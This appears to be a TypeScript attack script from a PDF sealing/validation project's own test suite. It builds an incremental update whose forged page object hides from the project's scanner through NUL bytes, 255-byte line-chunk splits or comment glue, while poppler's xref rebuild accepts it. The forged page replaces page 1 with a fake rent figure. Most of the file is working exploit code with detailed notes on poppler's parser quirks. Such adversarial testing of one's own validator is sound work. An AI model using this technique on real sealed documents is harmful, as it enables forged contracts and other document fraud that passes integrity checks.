// a26: a header poppler's rebuild takes that the unlisted scan does not. poppler's XRef::constructXRef reads the file
// in getLine pieces (up to CR/LF, 255 bytes) and walks each as a C string: after an object number's digits, a NUL
// (`*p == 0`, "new line, continue with next line!") makes it read the NEXT line and go on there (skip isspace, then
// the generation's digits, then `obj`), so `4\0<anything to the line's end>\n0 obj` is a definition of 4 for
// poppler's rebuild. unlisted.ts's HEADER takes NUL as a separator, but what follows it up to the line end is not
// a separator (nor a comment), so the scan takes nothing. Inside a listed stream's data the allow-list of bytes
// (unaccountedBytes) accepts it too.
// poppler's fetch then reads `4 \0 zz` with its Lexer (not `4 0 obj`): page 1 cannot be loaded; what poppler shows is
// the sealed document minus page 1 (the rebuild's entry replaces the listed one).
// modes: nul (gen after the cut), comment (chunk's glue in a top-level comment line), chunk (a 255-byte getLine piece ends after the number: `40 obj`), nul-gen (`4 0\0zz\nobj`), space (control: `4 0 obj`, the scan takes it),
//        plus `trigger` as a second argument: the update's startxref 1 byte off (poppler and pdf.js rebuild;
//        sealcheck refuses the file: a measurement of what the rebuild takes, not a pass by itself).
//   npx tsx scripts/attack-s21/nul-cut.ts <nul|nul-gen|space> [trigger]      REAL=0 for samples/valid
import { serialize } from "../../src/augment/writer.js";
import { NumberAllocator } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "nul";
const trigger = process.argv[3] === "trigger";
if (!["nul", "nul-gen", "chunk", "comment", "space"].includes(mode)) throw new Error("usage: <nul|nul-gen|chunk|comment|space> [trigger]");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const P = walkPages(view)[0]!.ref!.num;
const alloc = new NumberAllocator(doc);
const [A, B] = [alloc.take(), alloc.take()];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
const entry = (off: number, gen: number) => `${String(off).padStart(10, "0")} ${String(gen).padStart(5, "0")} n \n`;
const content = "1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET";
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
// chunk: 254 spaces, then the number glued to its generation: getLine's 255-byte piece ends after the number, the
// next piece begins with the generation (`*p == 0`, next line), so poppler reads `4 0 obj` from the bytes `40 obj`.
const head =
  mode === "nul"
    ? `${P}\0zz\n0 obj`
    : mode === "nul-gen"
      ? `${P} 0\0zz\nobj`
      : mode === "chunk"
        ? `${" ".repeat(255 - String(P).length)}${P}0 obj`
        : `${P} 0 obj`;
// comment: no stream needed: one top-level comment line between A and B (the byte allow-list takes a comment as
// accounted): `%`, 254 bytes (getLine piece 1), 254 spaces and the number (piece 2), `0 obj << forged >> endobj`.
const comment = mode === "comment" ? `%${"x".repeat(254)}${" ".repeat(255 - String(P).length)}${P}0 obj ${forgedPage} endobj\n` : "";
const inner = mode === "comment" ? "nothing\n" : `\n${head} ${forgedPage} endobj\n`;
const offA = at;
push(latin(`${A} 0 obj\n<< /Length ${inner.length} >>\nstream\n${inner}endstream\nendobj\n`));
if (comment) push(latin(comment));
const offB = at;
push(latin(`${B} 0 obj\n<< /Length ${content.length} >>\nstream\n${content}\nendstream\nendobj\n`));
const x = at;
push(
  latin(
    `xref\n${A} 2\n${entry(offA, 0)}${entry(offB, 0)}trailer\n<< /Size ${B + 1} ${carried.join(" ")} /Prev ${doc.revisions.at(-1)!.startxref} >>\nstartxref\n${trigger ? x + 1 : x}\n%%EOF\n`,
  ),
);
judge(`nul-cut ${mode}${trigger ? " trigger" : ""}`, save(work(`s21-nul-${mode}${trigger ? "-t" : ""}`), "archive.pdf", Uint8Array.from(parts.flat())));
